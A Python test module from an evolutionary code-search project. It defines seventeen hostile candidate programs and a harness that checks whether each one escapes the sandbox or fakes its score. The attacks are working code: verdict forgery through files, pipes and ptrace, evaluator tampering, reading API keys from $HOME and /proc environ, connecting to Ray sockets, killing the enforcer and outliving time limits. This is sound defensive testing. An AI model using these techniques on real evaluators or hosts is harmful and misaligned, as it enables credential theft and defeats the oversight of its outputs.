"""Hostile candidates, one per way of escaping the sandbox or faking a verdict, and the
arena that runs them and looks, from outside, at what each achieved.

Each `Attack` is a candidate program (its ``run()`` is called by an evaluator that runs
it through `call_isolated`, as this project's tasks do) and a test of its success that
looks only at the host: the user's task folder and the run log (bytes), a secret's
appearance anywhere in what came back, connections to listeners the arena holds, a
sentinel process, processes left running, and what a later honest candidate sees.

Each attack runs in a supervisor subprocess (``python -m rayevolve.testing.attacks``),
which plays the evaluator actor: it holds a secret in its environment from its start
(as an actor or a raylet would hold an API key) and runs the attack, then an honest
probe, through a `Sandbox`. An attack that kills its enforcer kills that subprocess,
never the caller. By default every attack gets a supervisor of its own (where attacks
can kill it: ``isolation=none``); ``Arena(persistent=True)`` keeps one per setting, with
one sandbox judging attack after attack, as an evaluator judges candidate after
candidate.

Used by ``tests/test_isolation_attacks.py`` (every attack must fail under the default
isolation) and by ``experiments/sandbox_attacks/table.py``, which writes the table of
what succeeds under each level into ``docs/sandbox.md``.
"""

from __future__ import annotations

import hashlib
import json
import os
import select
import socket
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from rayevolve.outcome import Outcome as Status

FORGED = 1e9  # the score every forgery claims
REPORT = "arena-report: "  # how the supervisor's report line begins
HONEST = 1.0  # what run() returns when an attack does not change the verdict

EVALUATOR = '''
"""Runs the candidate's run() in an isolated child; its number is the score."""
from rayevolve.evaluators.candidate_call import CandidateFailed, call_isolated, load_module

def evaluate(program_path):
    try:
        (value,) = call_isolated(lambda: float(load_module(program_path).run()), timeout_s=60)
    except CandidateFailed as exc:
        return {"status": exc.kind, "error": str(exc)}
    return {"combined_score": float(value)}
'''

PROGRAM = """
# EVOLVE-BLOCK-START
def run():
    return 1.0
# EVOLVE-BLOCK-END
"""

PRELUDE = '''
import json, os, signal, socket, sys, time
CONTEXT = json.loads({context!r})
FORGED = {forged!r}
VERDICT = {{"status": "ok", "score": FORGED, "stage": 1, "metrics": {{"combined_score": FORGED}}, "artifacts": {{}}}}
LINES = [json.dumps({{"verdict": VERDICT}}).encode() + b"\\n", json.dumps({{"returncode": 0, "timed_out": False, "channel": json.dumps({{"verdict": VERDICT}})}}).encode() + b"\\n"]

def pids():
    return sorted(int(p) for p in os.listdir("/proc") if p.isdigit())

def try_(function, *args):
    try:
        return function(*args)
    except BaseException as exc:
        return exc

def cmdline(pid):
    return try_(lambda: open(f"/proc/{{pid}}/cmdline", "rb").read())

def ppid(pid):
    stat = try_(lambda: open(f"/proc/{{pid}}/stat").read())
    return int(stat.rsplit(")", 1)[1].split()[1]) if isinstance(stat, str) else 0

def reach(address, family=socket.AF_INET):
    """Connect and say hello; None if it got through, else the error."""
    s = socket.socket(family)
    s.settimeout(3)
    failed = try_(s.connect, address)
    return failed if failed is not None else try_(s.sendall, b"hello")

def ancestors():
    """Its parent, grandparent, ... up to the arena's supervisor (the evaluator actor)."""
    found, pid = [], os.getppid()
    while pid > 0:
        found.append(pid)
        if b"rayevolve.testing.attacks" in (cmdline(pid) or b"") or pid == 1:
            break
        pid = ppid(pid)
    return found
'''


@dataclass(frozen=True)
class Attack:
    """One attack: its candidate, what it tries, and how the arena tells it worked."""

    name: str
    kind: str  # the class of attack (the words)
    tries: str
    body: str  # the candidate's code after the prelude; defines run()
    succeeded: Callable[[Outcome], bool]
    probe: str = ""  # a later honest candidate's run() body (what it finds), if any


@dataclass
class Outcome:
    """What the arena saw of one attack (and its probe), from the host."""

    status: str = ""
    score: float | None = None
    isolation: str = ""
    artifacts: dict = field(default_factory=dict)
    probe_status: str = ""
    probe_score: float | None = None
    supervisor_ok: bool = True
    supervisor_error: str = ""
    user_task_changed: bool = False
    run_log_changed: bool = False
    secret_leaked: bool = False
    connections: dict = field(default_factory=dict)
    sentinel_alive: bool = True
    leftovers: list = field(default_factory=list)
    seconds: float = 0.0

    def text(self) -> str:
        return json.dumps(self.artifacts)


def _forged(o: Outcome) -> bool:
    return o.status == Status.OK and o.score is not None and o.score >= FORGED


ATTACKS = [
    Attack(
        "verdict_file",
        "forged verdict",
        "write a verdict as result.json (and variants) in its directory, every folder above, /tmp, and the sandbox's work area",
        """
def run():
    text = json.dumps(VERDICT)
    places = {os.getcwd(), "/tmp", CONTEXT["work_hint"]}
    folder = os.getcwd()
    while folder != "/":
        folder = os.path.dirname(folder)
        places.add(folder)
    for place in places:
        for name in ("result.json", "verdict.json", "result.json.tmp", "spec.json"):
            try_(lambda: open(os.path.join(place, name), "w").write(text))
    return 1.0
""",
        _forged,
    ),
    Attack(
        "verdict_descriptors",
        "forged verdict",
        "write a verdict line on every descriptor it holds and on every /proc/PID/fd/N it can open (the judge's and the server's pipes)",
        """
def run():
    for fd in range(0, 1024):
        for line in LINES:
            try_(os.write, fd, line)
    # every process above it, up to the arena's supervisor (not every process it can see:
    # under isolation=none that would write into every pipe of the machine's user)
    for pid in ancestors():
        try:
            fds = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for fd in fds:
            path = f"/proc/{pid}/fd/{fd}"
            handle = try_(os.open, path, os.O_WRONLY | os.O_NONBLOCK)
            if isinstance(handle, int):
                for line in LINES:
                    try_(os.write, handle, line)
                os.close(handle)
    return 1.0
""",
        _forged,
    ),
    Attack(
        "verdict_then_kill_judge",
        "forged verdict",
        "print a verdict on stdout and stderr, write it everywhere, then kill the judge so that only the forgery remains",
        """
def run():
    line = json.dumps(VERDICT)
    print(line, flush=True); print(line, file=sys.stderr, flush=True)
    for fd in range(3, 256):
        try_(os.write, fd, LINES[0])
    try_(os.kill, os.getppid(), signal.SIGKILL)
    time.sleep(1)
    return 1.0
""",
        _forged,
    ),
    Attack(
        "verdict_proc_fd_then_kill",
        "forged verdict",
        "write exactly one verdict line into a pipe of its judge reached through /proc/PID/fd, then kill the judge before it writes its own",
        """
def run():
    judge = os.getppid()
    wrote = False
    for fd in try_(os.listdir, f"/proc/{judge}/fd") or []:
        if wrote or isinstance(fd, BaseException):
            break
        if "pipe:" in str(try_(os.readlink, f"/proc/{judge}/fd/{fd}")):
            handle = try_(os.open, f"/proc/{judge}/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK)
            if isinstance(handle, int):
                wrote = not isinstance(try_(os.write, handle, LINES[0]), BaseException)
    try_(os.kill, judge, signal.SIGKILL)
    time.sleep(1)
    return 1.0
""",
        _forged,
    ),
    Attack(
        "ptrace_judge",
        "forged verdict",
        "attach to its judge with ptrace, or open its memory, to rewrite the verdict in place",
        """
import ctypes
def run():
    libc = ctypes.CDLL(None, use_errno=True)
    judge = os.getppid()
    attached = libc.ptrace(16, judge, None, None) == 0  # PTRACE_ATTACH
    handle = try_(open, f"/proc/{judge}/mem", "r+b")
    opened = not isinstance(handle, BaseException)
    if attached or opened:  # a real attacker would now patch the score; say so loudly
        os.write(1, b"REACHED-THE-JUDGE\\n")
        try_(os.kill, judge, signal.SIGSTOP)
        return FORGED
    return 1.0
""",
        lambda o: "REACHED-THE-JUDGE" in o.text(),
    ),
    Attack(
        "tamper_task",
        "tampered task folder",
        "rewrite the user's task folder and every evaluator.py it can find, so that later candidates are judged by a planted evaluator",
        """
import glob
PLANTED = "def evaluate(p):\\n    return {'combined_score': %r}\\n" % FORGED
def run():
    targets = [os.path.join(CONTEXT["user_task"], "evaluator.py")]
    for module in list(sys.modules.values()):
        path = getattr(module, "__file__", None) or ""
        if path.endswith("evaluator.py"):
            targets.append(path)
    targets += glob.glob("/tmp/rayevolve-task-*/**/evaluator.py", recursive=True)
    targets += glob.glob(os.path.join(os.path.dirname(os.getcwd()), "**", "evaluator.py"), recursive=True)
    for path in set(targets):
        try_(lambda: open(path, "w").write(PLANTED))
        try_(os.chmod, path, 0o644)
    return 1.0
""",
        lambda o: o.user_task_changed or (o.probe_score is not None and o.probe_score >= FORGED),
        probe="def run():\n    return 1.0\n",
    ),
    Attack(
        "plant_for_later",
        "planting files for later candidates",
        "leave files in every writable place (its folder's parents, /tmp, /dev/shm, /var/tmp, $HOME, the task copy) for the next candidate to find",
        """
import glob
def run():
    places = ["/tmp", "/dev/shm", "/var/tmp", CONTEXT["home"], os.getcwd(),
              os.path.dirname(os.getcwd()), CONTEXT["work_hint"]]
    places += [os.path.dirname(p) for p in glob.glob("/tmp/rayevolve-task-*/**/evaluator.py", recursive=True)]
    for place in places:
        try_(lambda: open(os.path.join(place, "planted-" + CONTEXT["marker"]), "w").write("x"))
    return 1.0
""",
        lambda o: o.probe_score is not None and o.probe_score > 0,
        probe="""
import glob
def run():
    found = 0
    for root in ("/tmp", "/dev/shm", "/var/tmp", CONTEXT["home"], os.path.dirname(os.getcwd())):
        found += len(glob.glob(os.path.join(root, "**", "planted-*"), recursive=True))
    return float(found)
""",
    ),
    Attack(
        "home_secret",
        "reading files under $HOME",
        "read a secret file planted in the real $HOME, and ~/.ray",
        """
def run():
    for path in (CONTEXT["home_secret"], os.path.join(CONTEXT["home"], ".ray", "auth_token")):
        text = try_(lambda: open(path).read())
        if isinstance(text, str):
            print(text, flush=True)
    return 1.0
""",
        lambda o: o.secret_leaked,
    ),
    Attack(
        "proc_environ",
        "secrets from ancestors",
        "read /proc/PID/environ of every process it can see (the evaluator, the raylet, the driver hold API keys)",
        """
def run():
    for pid in pids():
        data = try_(lambda: open(f"/proc/{pid}/environ", "rb").read())
        if isinstance(data, bytes):
            for item in data.split(b"\\0"):
                if CONTEXT["secret_name"].encode() in item:
                    print(item.decode(errors="replace"), flush=True)
    return 1.0
""",
        lambda o: o.secret_leaked,
    ),
    Attack(
        "tcp_loopback",
        "joining the run's Ray / network",
        "open a TCP connection to a service on 127.0.0.1 (where Ray's GCS, the dashboard and a vllm serve listen)",
        """
def run():
    reach(("127.0.0.1", CONTEXT["tcp_port"]))
    return 1.0
""",
        lambda o: o.connections.get("tcp", 0) > 0,
    ),
    Attack(
        "tcp_outside",
        "network",
        "open a TCP connection to this host's external address (anything beyond loopback)",
        """
def run():
    reach((CONTEXT["host_ip"], CONTEXT["tcp_port"]))
    return 1.0
""",
        lambda o: o.connections.get("tcp", 0) > 0,
    ),
    Attack(
        "unix_socket",
        "joining the run's Ray / network",
        "connect to a Unix socket of the host (Ray's raylet and plasma store listen on such sockets under /tmp/ray) and to an abstract one",
        """
def run():
    for address in (CONTEXT["unix_path"], "\\0" + CONTEXT["abstract"]):
        reach(address, socket.AF_UNIX)
    return 1.0
""",
        lambda o: o.connections.get("unix", 0) > 0,
    ),
    Attack(
        "write_run_log",
        "writing the run log",
        "find the run directory (from the driver's command line, or as given) and add a Parquet file with a forged row",
        """
def run():
    programs = os.path.join(CONTEXT["run_dir"], "programs")
    try_(lambda: open(os.path.join(programs, "forged.parquet"), "wb").write(b"PAR1 forged row PAR1"))
    for pid in pids():
        cmd = try_(lambda: open(f"/proc/{pid}/cmdline", "rb").read())
        if isinstance(cmd, bytes) and b"runs/" in cmd:
            print("found a run directory in", pid, flush=True)
    return 1.0
""",
        lambda o: o.run_log_changed,
    ),
    Attack(
        "kill_enforcer",
        "killing its enforcer",
        "SIGKILL every process it can see above it (its judge, the fork server, the evaluator up to the arena's supervisor) and a bystander process of the same user",
        """
def run():
    # (not every process: under isolation=none that would be the whole machine's)
    targets = ancestors() + [p for p in pids() if b"sentinel-" in (cmdline(p) or b"")]
    for _ in range(3):
        for pid in targets:
            try_(os.kill, pid, signal.SIGKILL)
    time.sleep(1)
    return 1.0
""",
        lambda o: not o.supervisor_ok or not o.sentinel_alive,
    ),
    Attack(
        "setsid_escape",
        "killing its enforcer / outliving its time limit",
        "start a grandchild in a new session (setsid) that outlives the evaluation",
        """
def run():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv("/bin/sh", ["sh", "-c", "sleep 600; true", CONTEXT["marker"]])
        os._exit(0)
    time.sleep(0.5)
    return 1.0
""",
        lambda o: bool(o.leftovers),
    ),
    Attack(
        "outlive_time_limit",
        "killing its enforcer / outliving its time limit",
        "ignore every signal it can, block in a grandchild and hang past the time limit",
        """
def run():
    for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
        signal.signal(sig, signal.SIG_IGN)
    if os.fork() == 0:
        os.execv("/bin/sh", ["sh", "-c", "trap '' TERM HUP INT; sleep 600; true", CONTEXT["marker"]])
    time.sleep(600)
""",
        lambda o: bool(o.leftovers) or o.status != Status.TIMEOUT,
    ),
    Attack(
        "huge_message",
        "smaller: unbounded stored text",
        "raise an exception whose message is 50 million characters",
        """
def run():
    raise RuntimeError("x" * 50_000_000)
""",
        lambda o: len(o.text()) > 1_000_000,
    ),
]

BY_NAME = {attack.name: attack for attack in ATTACKS}


def _hash_tree(root: Path) -> str:
    digest = hashlib.sha256()
    for path in sorted(root.rglob("*")):
        digest.update(str(path.relative_to(root)).encode())
        if path.is_file() and not path.is_symlink():
            digest.update(path.read_bytes())
    return digest.hexdigest()


def _host_ip() -> str:
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        probe.connect(("10.255.255.255", 1))  # no packet is sent: it picks the route's address
        return probe.getsockname()[0]
    except OSError:
        return socket.gethostbyname(socket.gethostname())
    finally:
        probe.close()


class Arena:
    """A user task folder, a run log, a secret, listeners and a bystander process, all
    watched from outside while attacks run (use as a context manager)."""

    def __init__(self, root: Path | None = None, persistent: bool = False):
        self.persistent = persistent  # one supervisor per setting, judging attack after attack
        self._supervisors: dict[tuple, subprocess.Popen] = {}
        self._tmp = None
        if root is None:
            self._tmp = tempfile.TemporaryDirectory(prefix="rayevolve-arena-")
            root = Path(self._tmp.name)
        self.root = Path(root)
        self.user_task = self.root / "user_task"
        self.user_task.mkdir()
        (self.user_task / "evaluator.py").write_text(EVALUATOR)
        (self.user_task / "initial_program.py").write_text(PROGRAM)
        self.run_dir = self.root / "runs" / "attacked"
        (self.run_dir / "programs").mkdir(parents=True)
        (self.run_dir / "programs" / "rows-0001.parquet").write_bytes(b"PAR1 real rows PAR1")
        self.secret_name = "RAYEVOLVE_ARENA_API_KEY"
        self.secret = "sk-arena-" + uuid.uuid4().hex
        self.home_secret = Path(os.path.expanduser("~")) / f".rayevolve-arena-{uuid.uuid4().hex}"
        self.home_secret.write_text(self.secret + "\n")
        self.marker = f"arena-{uuid.uuid4().hex}"
        self.connections = {"tcp": 0, "unix": 0}
        self._servers = []
        tcp = socket.socket()
        tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        tcp.bind(("0.0.0.0", 0))
        self.tcp_port = tcp.getsockname()[1]
        self.unix_path = str(self.root / "service.sock")
        unix = socket.socket(socket.AF_UNIX)
        unix.bind(self.unix_path)
        self.abstract = f"rayevolve-arena-{uuid.uuid4().hex}"
        abstract = socket.socket(socket.AF_UNIX)
        abstract.bind("\0" + self.abstract)
        for kind, server in (("tcp", tcp), ("unix", unix), ("unix", abstract)):
            server.listen(16)
            server.settimeout(0.2)
            self._servers.append(server)
            threading.Thread(target=self._accept, args=(kind, server), daemon=True).start()
        self.sentinel = self._bystander()
        self._hashes = (_hash_tree(self.user_task), _hash_tree(self.run_dir))

    def _env(self) -> dict[str, str]:
        return {**os.environ, self.secret_name: self.secret}

    def _ask(self, key: tuple, job: dict, timeout_s: float) -> tuple[str, bool]:
        """One job to the setting's long-lived supervisor: (its report line, alive)."""
        supervisor = self._supervisors.get(key)
        if supervisor is None or supervisor.poll() is not None:
            supervisor = self._supervisors[key] = subprocess.Popen(
                [sys.executable, "-m", "rayevolve.testing.attacks", "--serve"],
                stdin=subprocess.PIPE,
                stdout=subprocess.PIPE,
                stderr=subprocess.DEVNULL,
                text=True,
                env=self._env(),
            )
        try:
            supervisor.stdin.write(json.dumps(job) + "\n")
            supervisor.stdin.flush()
        except OSError:
            return "", False
        deadline = time.monotonic() + timeout_s
        while time.monotonic() < deadline:
            if not select.select([supervisor.stdout], [], [], deadline - time.monotonic())[0]:
                break
            line = supervisor.stdout.readline()
            if not line:
                return "", False  # it died
            if line.startswith(REPORT):
                return line, True
        supervisor.kill()
        return "", False

    def _bystander(self) -> subprocess.Popen:
        """A process of the same user outside the sandbox: no candidate may kill it."""
        return subprocess.Popen(
            ["/bin/sh", "-c", "sleep 3600; true", f"sentinel-{self.marker}"],
            start_new_session=True,
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )

    def _stop_bystander(self) -> None:
        try:
            os.killpg(self.sentinel.pid, 9)
        except OSError:
            pass
        self.sentinel.wait()

    def _accept(self, kind: str, server: socket.socket) -> None:
        while True:
            try:
                connection, _ = server.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            self.connections[kind] += 1
            connection.close()

    def context(self) -> dict:
        return {
            "user_task": str(self.user_task),
            "run_dir": str(self.run_dir),
            "home_secret": str(self.home_secret),
            "secret_name": self.secret_name,
            "home": os.path.expanduser("~"),
            "marker": self.marker,
            "tcp_port": self.tcp_port,
            "host_ip": _host_ip(),
            "unix_path": self.unix_path,
            "abstract": self.abstract,
            "work_hint": tempfile.gettempdir(),
        }

    def candidate(self, body: str) -> str:
        return PRELUDE.format(context=json.dumps(self.context()), forged=FORGED) + body

    def run(
        self,
        attack: Attack,
        isolation: str,
        launcher: str,
        timeout_s: float = 8.0,
        tool: str = "",
    ) -> Outcome:
        """Run `attack` (then its probe) in a supervisor under `isolation` (with ``tool``
        ``unshare``: namespaces made by util-linux's unshare, not bubblewrap); what it did."""
        for kind in self.connections:
            self.connections[kind] = 0
        job = {
            "task": str(self.user_task),
            "isolation": isolation,
            "launcher": launcher,
            "timeout_s": timeout_s,
            "tool": tool,
            "attack": self.candidate(attack.body),
            "probe": self.candidate(attack.probe) if attack.probe else "",
        }
        started = time.monotonic()
        key = (isolation, launcher, tool, timeout_s)
        if self.persistent:
            text, ok = self._ask(key, job, timeout_s * 4 + 60)
        else:
            done = subprocess.run(
                [sys.executable, "-m", "rayevolve.testing.attacks", json.dumps(job)],
                capture_output=True,
                text=True,
                env=self._env(),
                timeout=timeout_s * 4 + 60,
            )
            text, ok = done.stdout + done.stderr, done.returncode == 0
        outcome = Outcome(seconds=time.monotonic() - started)
        lines = [line for line in text.splitlines() if line.startswith(REPORT)]
        if not ok or not lines:
            outcome.supervisor_ok = False
            outcome.supervisor_error = text[-2000:]
        if lines:
            report = json.loads(lines[-1][len(REPORT) :])
            for key in ("status", "score", "isolation", "probe_status", "probe_score"):
                setattr(outcome, key, report.get(key))
            outcome.artifacts = report.get("artifacts") or {}
        time.sleep(0.05)  # a connection's accept, a kill's delivery
        outcome.connections = dict(self.connections)
        outcome.user_task_changed = _hash_tree(self.user_task) != self._hashes[0]
        outcome.run_log_changed = _hash_tree(self.run_dir) != self._hashes[1]
        outcome.secret_leaked = self.secret in (text + outcome.text())
        outcome.sentinel_alive = self.sentinel.poll() is None
        outcome.leftovers = processes_with(self.marker, exclude=(self.sentinel.pid,))
        self._restore(outcome)
        return outcome

    def _restore(self, outcome: Outcome) -> None:
        """Undo what a successful attack changed, so the next one starts clean."""
        from rayevolve.sandbox.scratch import empty_dir

        for pid in outcome.leftovers:
            try:
                os.kill(pid, 9)
            except OSError:
                pass
        if outcome.user_task_changed:
            (self.user_task / "evaluator.py").write_text(EVALUATOR)
            (self.user_task / "initial_program.py").write_text(PROGRAM)
        if outcome.run_log_changed:
            empty_dir(self.run_dir / "programs")
            (self.run_dir / "programs" / "rows-0001.parquet").write_bytes(b"PAR1 real rows PAR1")
        if not outcome.sentinel_alive:
            self._stop_bystander()
            self.sentinel = self._bystander()
        if outcome.probe_score:  # a plant was found: remove every one
            name = f"planted-{self.marker}"
            for place in ("/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~")):
                # os.walk passes over folders that vanish meanwhile (other runs' sandboxes)
                for folder, _, files in os.walk(place):
                    if name in files:
                        Path(folder, name).unlink(missing_ok=True)
        self._hashes = (_hash_tree(self.user_task), _hash_tree(self.run_dir))

    def close(self) -> None:
        for supervisor in self._supervisors.values():
            supervisor.kill()
            supervisor.wait()
        for server in self._servers:
            server.close()
        self._stop_bystander()
        self.home_secret.unlink(missing_ok=True)
        for pid in processes_with(self.marker):
            try:
                os.kill(pid, 9)
            except OSError:
                pass
        if self._tmp is not None:
            self._tmp.cleanup()

    def __enter__(self) -> Arena:
        return self

    def __exit__(self, *exc) -> None:
        self.close()


def processes_with(marker: str, exclude: tuple[int, ...] = ()) -> list[int]:
    """Running processes of this host whose command line holds `marker` (a process in a
    sandbox's PID namespace shows here under its host PID), but this one and `exclude`."""
    from rayevolve.sandbox.child import running

    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit() or int(entry.name) in (os.getpid(), *exclude):
            continue
        try:
            cmdline = (entry / "cmdline").read_bytes()
        except OSError:
            continue
        if marker.encode() in cmdline and running(int(entry.name)):
            found.append(int(entry.name))
    return found


def supervise(job: dict, sandboxes: dict | None = None) -> dict:
    """In the supervisor subprocess: judge the attack, then the probe, in a sandbox (one
    per setting, kept in `sandboxes` when the supervisor serves several jobs)."""
    from rayevolve.result import Isolation
    from rayevolve.sandbox.confinement import Confinement
    from rayevolve.sandbox.runner import Sandbox, SandboxLimits

    key = (job["task"], job["launcher"], job["isolation"], job.get("tool", ""), job["timeout_s"])
    sandbox = (sandboxes or {}).get(key)
    if sandbox is None:
        isolation = job["isolation"]
        if job.get("tool") == "unshare":
            isolation = Confinement(Isolation.NAMESPACES, "unshare", options={"unshare": True})
        limits = SandboxLimits(
            timeout_s=job["timeout_s"],
            memory_limit_mb=2048,
            output_limit_bytes=16384,
            file_limit_bytes=16 << 20,
        )
        sandbox = Sandbox.of_folder(
            job["task"],
            limits=limits,
            launcher=job["launcher"],
            isolation=isolation,
            hidden=(job["task"],),
        )
    report: dict = {}
    try:
        result = sandbox.evaluate(job["attack"], ".py")
        report.update(
            status=str(result.status),
            score=result.score,
            isolation=result.isolation,
            artifacts=result.artifacts,
        )
        if job["probe"]:
            probe = sandbox.evaluate(job["probe"], ".py")
            report.update(probe_status=str(probe.status), probe_score=probe.score)
    finally:
        if sandboxes is None:
            sandbox.close()
        else:
            sandboxes[key] = sandbox
    return report


def serve() -> None:
    """Judge job after job (one JSON line each), keeping each setting's sandbox."""
    sandboxes: dict = {}
    for line in sys.stdin:
        report = supervise(json.loads(line), sandboxes)
        sys.stdout.write(REPORT + json.dumps(report, default=str) + "\n")
        sys.stdout.flush()


if __name__ == "__main__":
    if sys.argv[1:] == ["--serve"]:
        serve()
    else:
        report = supervise(json.loads(sys.argv[1]))
        sys.stdout.write(REPORT + json.dumps(report, default=str) + "\n")
